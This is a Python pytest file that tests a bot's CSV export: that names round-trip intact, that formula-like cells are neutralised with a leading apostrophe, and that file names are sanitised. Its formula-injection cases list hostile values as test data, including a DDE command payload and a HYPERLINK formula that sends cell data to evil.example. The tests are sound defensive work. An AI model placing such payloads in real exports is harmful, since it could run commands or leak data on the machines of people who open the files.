"""A file of rows: what a spreadsheet shows is what the table holds, and nothing in it runs."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from bot.answers.answer import DataFile, Row
from bot.answers.csv import csv_file
from bot.catalog import Thing
from bot.question import Question
from tests.answers.kept import QUESTION


def file_of(*rows: Row, question: Question = QUESTION) -> DataFile:
    found = csv_file(question, rows)
    assert found is not None
    return found


def read(*rows: Row) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file_of(*rows).content, newline=""), strict=True))


def named(name: str) -> Question:
    return replace(QUESTION, things=(Thing("f1", name, "feature", "1"),))


def test_the_first_line_names_the_columns():
    assert read({"account": "Acme", "clicks": 7, "share": 0.25, "first_use": None}) == [
        ["account", "clicks", "share", "first_use"],
        ["Acme", "7", "0.25", ""],
    ]


@pytest.mark.parametrize(
    "name",
    [
        'O\'Neill "Best" Foods', "Smith, Jones, & Co", "two\nlines", "two\r\nlines", "a\rreturn", '"', '""',
        "Müller & Söhne", "กรุงเทพ โลจิสติกส์", "東京電機商会", "🚀 Rocket", "<!channel>", "שלום", "",
        ",", " ", "a;b", "a\tb", "NULL", "5-a-day", "a=b", "1+1",
    ],
)  # fmt: skip
def test_any_name_comes_back_as_it_is(name: str):
    rows = read({"account": name, "id": "x"}, {"account": "next", "id": "y"})
    assert rows[1:] == [[name, "x"], ["next", "y"]]


@pytest.mark.parametrize(
    "name",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0=1", "＝1+1", "＋1",
        "－1", "＠A1",
        "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example?x="&A1,"see")', "\tx", "-", '=",\n"',
    ],
)  # fmt: skip
def test_no_name_is_run_as_a_formula(name: str):
    _, cells = read({"account": name, "id": name})
    assert cells == [f"'{name}", f"'{name}"]


def test_a_number_stays_a_number():
    assert read({"change": -4, "share": -0.5, "used": 0})[1] == ["-4", "-0.5", "0"]


def test_without_rows_there_is_no_file():
    assert csv_file(QUESTION, []) is None


@pytest.mark.parametrize(
    ("name", "subject"),
    [
        ("Export button", "export-button"),
        ("../../etc/passwd", "etc-passwd"),
        ('Beta <b> & "C>D"', "beta-b-c-d"),
        ("東京", "東京"),
        ("a" * 39 + " b", "a" * 39),
        ("x\ny\x00z", "x-y-z"),
    ],
)
def test_the_name_of_the_file_says_what_is_in_it(name: str, subject: str):
    found = file_of({"a": 1}, question=named(name))
    assert found.name == f"adoption-{subject}-2026-10-26-to-2026-11-24.csv"


@pytest.mark.parametrize("name", ["🚀", "...", "a" * 500, "𠮷" * 500])
def test_any_subject_makes_a_name_that_a_disk_takes(name: str):
    found = file_of({"a": 1}, question=named(name))
    assert found.name.startswith("adoption-")
    assert len(found.name.encode()) <= 255
    assert "--" not in found.name


def test_its_bytes_are_utf8_behind_a_mark_that_excel_needs():
    found = file_of({"account": "Müller"}, {"account": "東京"})
    assert found.data == "\ufeffaccount\r\nMüller\r\n東京\r\n".encode()
    assert found.rows == 2
